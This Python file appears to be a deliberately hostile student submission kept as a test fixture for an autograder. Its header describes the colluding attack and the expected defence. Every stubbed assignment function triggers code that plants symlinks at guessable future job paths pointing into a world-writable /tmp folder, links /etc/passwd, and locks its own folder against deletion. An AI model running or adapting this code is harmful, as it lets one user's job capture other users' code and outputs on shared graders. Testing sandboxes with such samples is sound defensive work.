# Hostile submission (the first of a colluding pair, graded before a classmate and then
# kept_code_runner.py on the same warm worker): it plants symbolic links at the paths
# where the next 200 job folders would be if their names could be guessed (numbers,
# its own folder's name plus one), all pointing into a world-writable folder of its
# own in /tmp, so that later jobs' code and outputs would survive there (at its first
# call). It also makes its own folder hard to delete (a link to a file outside,
# permissions taken away).
# It implements nothing. Expected: it earns nothing, the classmate keeps full marks,
# kept_code_runner finds nothing (each job folder has an unguessable name made without
# following links; anything left over means the worker is replaced).
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import os

KEEP = "/tmp/.kept"
_DONE = []  # the attack runs once, at the first call


def _attack():
    if _DONE:
        return
    _DONE.append(True)
    job = os.path.dirname(os.getcwd())
    jobs = os.path.dirname(job)
    os.makedirs(KEEP, exist_ok=True)
    os.chmod(KEEP, 0o777)
    names = [str(n) for n in range(1, 201)]
    if os.path.basename(job).isdigit():
        names += [str(int(os.path.basename(job)) + k) for k in range(1, 201)]
    planted = 0
    for name in names:
        try:
            os.symlink(KEEP, os.path.join(jobs, name))
            planted += 1
        except OSError:
            pass
    for trap in ("tmp", "home"):
        try:
            os.symlink("/etc/passwd", os.path.join(job, trap, "passwd-link"))
            os.chmod(os.path.join(job, trap), 0o500)
        except OSError:
            pass
    print(f"link_planter: planted {planted} links")


def forward(params, X):
    _attack()
    raise NotImplementedError("link_planter implements nothing")


def cost(params, X, Y, C):
    _attack()
    raise NotImplementedError("link_planter implements nothing")


def gradients(params, X, Y, C):
    _attack()
    raise NotImplementedError("link_planter implements nothing")


def momentum_step(params, grads, rho_prev, eta, alpha):
    _attack()
    raise NotImplementedError("link_planter implements nothing")


def learning_rate(eta0, d, epoch):
    _attack()
    raise NotImplementedError("link_planter implements nothing")


def one_hot(y, K):
    _attack()
    raise NotImplementedError("link_planter implements nothing")


def predict(params, X):
    _attack()
    raise NotImplementedError("link_planter implements nothing")


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    _attack()
    raise NotImplementedError("link_planter implements nothing")
